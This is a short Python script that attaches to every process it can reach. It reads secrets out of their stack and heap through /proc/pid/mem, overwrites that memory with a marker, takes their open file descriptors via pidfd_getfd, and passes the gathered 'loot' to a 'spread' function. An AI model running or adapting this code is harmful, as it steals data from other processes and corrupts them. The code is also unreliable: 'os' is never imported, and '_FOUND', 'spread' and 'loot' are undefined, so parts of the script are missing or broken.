"""Attach to other processes, and read and write their memory."""

# ends: honest or crash
# only: acceptance
# admission: paths
import contextlib
import ctypes

if __name__ == "__main__":
    libc = ctypes.CDLL(None, use_errno=True)
    found = []
    for pid in {os.getppid(), 1, *map(int, filter(str.isdigit, os.listdir("/proc")))} - {
        os.getpid()
    }:
        for request in (16, 0x4206, 17):  # attach, seize, detach
            libc.ptrace(request, pid, 0, 0)
        with contextlib.suppress(OSError):
            for line in open(f"/proc/{pid}/maps"):
                if "[stack]" in line or "[heap]" in line:
                    begin, end = (int(part, 16) for part in line.split()[0].split("-"))
                    with open(f"/proc/{pid}/mem", "r+b", 0) as memory:
                        memory.seek(begin)
                        found += _FOUND.findall(memory.read(min(end - begin, 1 << 20)))
                        memory.seek(begin)
                        memory.write(b"@MARK@")
        with contextlib.suppress(OSError, AttributeError):
            handle = os.pidfd_open(pid)
            for number in range(20):
                stolen = libc.syscall(438, handle, number, 0)
                if stolen >= 0:
                    os.set_blocking(stolen, False)
                    found.append(os.read(stolen, 4096))
    spread(found + loot())
